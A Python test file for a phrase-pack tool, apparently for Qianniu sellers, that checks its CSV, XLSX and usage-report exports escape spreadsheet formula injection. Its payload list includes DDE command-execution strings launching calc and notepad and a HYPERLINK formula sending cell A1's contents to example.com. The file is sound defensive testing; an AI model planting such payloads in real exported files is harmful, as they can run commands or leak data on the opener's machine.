"""Formula payloads through every export a spreadsheet may open: the pack's CSV and XLSX,
the usage report (command line; the window writes the same CSV) and the Qianniu CSV. No
cell reaches Excel as a formula: CSV cells get an apostrophe, XLSX cells are text with
Excel's quote prefix, and the Qianniu export refuses a body it cannot protect (an
apostrophe would be sent to the buyer) while guarding groups and codes."""

from __future__ import annotations

import csv
import io

import pytest

from assistant.core import packfile
from assistant.core.phrases import Pack, Phrase
from assistant.errors import PackFormatError
from tests.reliability.helpers import record, run_cli

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://example.com/?x="&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "=cmd|' /C notepad'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _formula_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_START)]


def _pack(field: str) -> Pack:
    phrases = []
    for i, payload in enumerate(PAYLOADS):
        values = {"title": f"标题{i}", "body": f"亲，第 {i} 条", "group": (f"组{i}",)}
        if field == "group":
            values["group"] = (payload.replace("/", "_").strip() or "x",)
        else:
            values[field] = payload
        phrases.append(Phrase(f"c{i}", values["title"], values["body"], (), values["group"]))
    return Pack("公式", phrases)


@pytest.mark.parametrize("field", ["title", "group"])
def test_item5_the_usage_report_writes_no_formula(field, data_dir, tmp_path):
    from assistant.store.repository import Store

    store = Store(data_dir)
    store.save_pack(_pack(field), backup=False)
    store.close()
    out = tmp_path / "使用统计.csv"
    result = run_cli(data_dir, "usage", "-o", str(out))
    assert result.returncode == 0, result.stderr
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))
    formulas = _formula_cells(rows[1:])
    record("formula payloads through exports", payloads=len(PAYLOADS), as_formulas=len(formulas))
    assert formulas == []
    assert any(cell.startswith("'=") for row in rows for cell in row)  # shown as text


@pytest.mark.parametrize("field", ["title", "body", "group"])
def test_the_pack_csv_and_xlsx_write_no_formula(field, tmp_path):
    from openpyxl import load_workbook

    pack = _pack(field)
    csv_path, xlsx_path = tmp_path / "p.csv", tmp_path / "p.xlsx"
    packfile.write_pack(pack, csv_path)
    packfile.write_pack(pack, xlsx_path)
    rows = list(csv.reader(io.StringIO(csv_path.read_bytes().decode("utf-8-sig"), newline="")))
    sheet = load_workbook(xlsx_path).active
    xlsx_formulas = [
        c.value
        for row in sheet.iter_rows()
        for c in row
        if c.data_type == "f"
        or (
            isinstance(c.value, str) and c.value.startswith(FORMULA_START[:4]) and not c.quotePrefix
        )
    ]
    formulas = _formula_cells(rows[1:]) + xlsx_formulas
    record(
        "formula payloads through exports", payloads=2 * len(PAYLOADS), as_formulas=len(formulas)
    )
    assert formulas == []


def test_item5_the_qianniu_export_refuses_formula_bodies_naming_them(tmp_path):
    path = tmp_path / "千牛.csv"
    with pytest.raises(PackFormatError) as caught:
        packfile.write_pack(_pack("body"), path, "qianniu")
    assert "公式" in str(caught.value) and "编码 c0" in str(caught.value)
    assert not path.exists()
    record("formula payloads through exports", payloads=len(PAYLOADS), as_formulas=0)


def test_item5_the_qianniu_export_guards_group_names(tmp_path):
    path = tmp_path / "千牛.csv"
    packfile.write_pack(_pack("group"), path, "qianniu")
    rows = list(csv.reader(io.StringIO(path.read_bytes().decode("gbk"), newline="")))
    formulas = _formula_cells(rows[1:])
    record("formula payloads through exports", payloads=len(PAYLOADS), as_formulas=len(formulas))
    assert formulas == []
    # and our importer reads the names back as they were
    again = packfile.read_pack(path)
    assert again.phrases[0].group == ("=1+1",)
